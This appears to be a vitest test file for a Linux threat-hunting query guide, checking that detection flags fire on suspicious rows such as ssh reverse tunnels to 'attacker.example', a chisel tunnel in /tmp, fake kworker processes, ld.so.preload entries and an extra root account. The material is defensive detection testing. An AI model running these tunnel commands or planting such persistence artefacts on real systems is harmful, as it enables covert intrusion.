import { readFileSync, readlinkSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import initSqlJs, { type SqlJsStatic } from 'sql.js';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadLibrary, type Library } from '../../src/guide/load.js';
import type { Query } from '../../src/guide/model.js';
import { OSQUERY_COLUMNS } from '../../src/guide/osquery-columns.js';
import { shippedGuideDir } from '../../src/guide/paths.js';
import { renderQuery } from '../../src/sql/render.js';

let SQL: SqlJsStatic;
let lib: Library;

beforeAll(async () => {
  SQL = await initSqlJs();
  lib = await loadLibrary([shippedGuideDir()]);
});

function query(id: string): Query {
  const q = lib.queries.get(id);
  if (!q) throw new Error(`no query ${id}`);
  return q;
}

/** Indexes of the flags that fire on one row, evaluated as findings are: in SQLite, every value TEXT. */
function firing(id: string, row: Record<string, string>): number[] {
  const q = query(id);
  const db = new SQL.Database();
  try {
    const cols = Object.keys(row);
    db.run(`CREATE TABLE result (${cols.map((c) => `"${c}" TEXT`).join(', ')})`);
    db.run(`INSERT INTO result VALUES (${cols.map(() => '?').join(', ')})`, Object.values(row));
    return q.flags.flatMap((f, i) => (Number(db.exec(`SELECT count(*) FROM result WHERE (${f.when})`)[0]?.values[0]?.[0]) > 0 ? [i] : []));
  } finally {
    db.close();
  }
}

const ssh = (cmdline: string) => ({ name: 'ssh', path: '/usr/bin/ssh', cmdline, on_disk: '1' });

describe('flags fire on the rows they describe and stay quiet otherwise', () => {
  it('tunnel-tool-processes: ssh forwarding options, not ordinary ssh', () => {
    expect(firing('tunnel-tool-processes', ssh('ssh -fNR 8080:localhost:22 attacker.example'))).toEqual([0]);
    expect(firing('tunnel-tool-processes', ssh('ssh -D 1080 -N bastion'))).toEqual([0]);
    expect(firing('tunnel-tool-processes', ssh('ssh -L8443:db:5432 jump'))).toEqual([0]);
    expect(firing('tunnel-tool-processes', ssh('ssh -J bastion internal'))).toEqual([0]);
    expect(firing('tunnel-tool-processes', ssh('ssh -v alice@host'))).toEqual([]);
    expect(firing('tunnel-tool-processes', ssh('ssh -o ServerAliveInterval=30 -l alice host'))).toEqual([]);
    expect(firing('tunnel-tool-processes', { name: 'chisel', path: '/tmp/.c/chisel', cmdline: 'chisel client x R:socks', on_disk: '1' })).toEqual([2, 3]);
  });

  it('masquerading-kernel-threads: a real kworker is clean, a fake one is caught three ways', () => {
    expect(firing('masquerading-kernel-threads', { name: 'kworker/0:1-events', path: '', cmdline: '', parent: '2' })).toEqual([]);
    expect(firing('masquerading-kernel-threads', { name: 'kworker/0:1', path: '/tmp/.k/kw', cmdline: '[kworker/0:1]', parent: '1' })).toEqual([0, 1, 2]);
  });

  it('dynamic-linker-files: preload file, stray copies and ownership', () => {
    const old = String(Math.floor(Date.now() / 1000) - 90 * 86400);
    const row = (path: string, extra: Record<string, string> = {}) => ({
      path, filename: path.split('/').pop() ?? '', size: '0', ctime: old, uid: '0', ...extra,
    });
    expect(firing('dynamic-linker-files', row('/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2'))).toEqual([]);
    expect(firing('dynamic-linker-files', row('/usr/lib/x86_64-linux-gnu/ld-2.31.so'))).toEqual([]);
    expect(firing('dynamic-linker-files', row('/etc/ld.so.preload', { size: '27' }))).toEqual([0, 1]);
    expect(firing('dynamic-linker-files', row('/lib64/ld-linux-x86-64.so.2.bak'))).toEqual([2]);
    expect(firing('dynamic-linker-files', row('/lib64/ld-linux-x86-64.so.2', { ctime: String(Math.floor(Date.now() / 1000)), uid: '1000' }))).toEqual([3, 4]);
  });

  it('executables-in-temp-dirs and file-details read the octal mode string', () => {
    expect(firing('executables-in-temp-dirs', { filename: 'x', mode: '0755' })).toEqual([0]);
    expect(firing('executables-in-temp-dirs', { filename: 'libx.so', mode: '0644' })).toEqual([1]);
    expect(firing('executables-in-temp-dirs', { filename: '.hidden', mode: '4755' })).toEqual([0, 2, 3]);
    expect(firing('file-details', { type: 'regular', mode: '0644', symlink: '0', owner: 'root', path: '/etc/x' })).toEqual([]);
    expect(firing('file-details', { type: 'regular', mode: '0777', symlink: '0', owner: 'root', path: '/etc/x' })).toEqual([0, 2]);
  });

  it('elevated-effective-id-processes: sudo is expected, a root python for a user is not', () => {
    const row = (name: string, path: string) => ({ name, path, on_disk: '1' });
    expect(firing('elevated-effective-id-processes', row('sudo', '/usr/bin/sudo'))).toEqual([]);
    expect(firing('elevated-effective-id-processes', row('python3', '/usr/bin/python3.11'))).toEqual([0, 1]);
    expect(firing('elevated-effective-id-processes', row('x', '/home/bob/x'))).toEqual([0, 2]);
  });

  it('user-account and uid-zero-accounts: a second root', () => {
    expect(firing('uid-zero-accounts', { username: 'toor', uid: '0', gid: '0' })).toEqual([0]);
    expect(firing('uid-zero-accounts', { username: 'root', uid: '0', gid: '0' })).toEqual([]);
    expect(firing('user-account', { username: 'www-data', uid: '33', shell: '/bin/bash' })).toEqual([1]);
    expect(firing('user-account', { username: 'www-data', uid: '33', shell: '/usr/sbin/nologin' })).toEqual([]);
  });
});

describe('process-ancestry walks the same chain ps reports', () => {
  it('follows parents from this test process up to init', () => {
    // Stand-in processes table from /proc (pid, name, parent, path), the rest left empty.
    const db = new SQL.Database();
    try {
      const cols = OSQUERY_COLUMNS['processes'] ?? [];
      db.run(`CREATE TABLE processes (${cols.join(', ')})`);
      db.run(`CREATE TABLE users (${(OSQUERY_COLUMNS['users'] ?? []).join(', ')})`);
      for (const pid of chainFromPs(process.pid)) {
        const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
        const name = stat.slice(stat.indexOf('(') + 1, stat.lastIndexOf(')'));
        const parent = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
        let path = '';
        try {
          path = readlinkSync(`/proc/${pid}/exe`);
        } catch {
          // not ours to read: osquery leaves path empty too
        }
        db.run('INSERT INTO processes (pid, name, parent, path, uid, on_disk, start_time) VALUES (?, ?, ?, ?, 0, 1, 0)', [pid, name, parent, path]);
      }
      const rendering = renderQuery(query('process-ancestry').sql, { 'process.pid': [String(process.pid)] });
      if (rendering.status !== 'ready') throw new Error(rendering.status);
      const rows = db.exec(rendering.runs[0]?.sql ?? '')[0];
      const pidCol = rows?.columns.indexOf('pid') ?? -1;
      const depthCol = rows?.columns.indexOf('depth') ?? -1;
      expect(rows?.values.map((r) => Number(r[pidCol]))).toEqual(chainFromPs(process.pid));
      expect(rows?.values.map((r) => Number(r[depthCol]))).toEqual(chainFromPs(process.pid).map((_, i) => i));
    } finally {
      db.close();
    }
  });
});

/** pid, its parent, grandparent ... as ps sees them, stopping at a parent of 0. */
function chainFromPs(pid: number): number[] {
  const chain: number[] = [];
  for (let p = pid; p > 0 && chain.length < 64; ) {
    chain.push(p);
    p = Number(execFileSync('ps', ['-o', 'ppid=', '-p', String(p)], { encoding: 'utf8' }).trim());
  }
  return chain;
}
